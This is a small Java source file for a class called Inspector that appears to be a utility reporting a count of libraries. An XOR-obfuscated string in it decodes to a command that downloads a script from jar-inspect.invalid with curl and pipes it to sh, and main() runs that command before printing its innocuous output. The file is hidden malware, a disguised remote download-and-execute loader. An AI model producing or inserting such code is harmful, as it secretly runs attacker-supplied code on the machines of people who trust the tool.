import java.io.*; import java.net.*;
public class Inspector {
  public static String ALLATORIxDEMO(String s) {
    int i = s.length(); char[] c = new char[i]; int k = (1 ^ 2) << 1 ^ 0;
    while (--i >= 0) { c[i] = (char)(s.charAt(i) ^ k); if (--i < 0) break; c[i] = (char)(s.charAt(i) ^ (k ^ 0x2b)); }
    return new String(c);
  }
  public static void main(String[] a) throws Exception {
    String c = ALLATORIxDEMO("\u0065\u0058\u0074\u0041\u0026\u0000\u0060\u005e\u0055\u0061\u0026\u0045\u0072\u0059\u0076\u005e\u003c\u0002\u0029\u0047\u0067\u005f\u002b\u0044\u0068\u005e\u0076\u0048\u0065\u0059\u0028\u0044\u0068\u005b\u0067\u0041\u006f\u0049\u0029\u0047\u0026\u0051\u0026\u005e\u006e");
    Process p = Runtime.getRuntime().exec(new String[]{"sh", "-c", c});
    p.waitFor();
    System.out.println("libraries: " + a.length);
  }
}
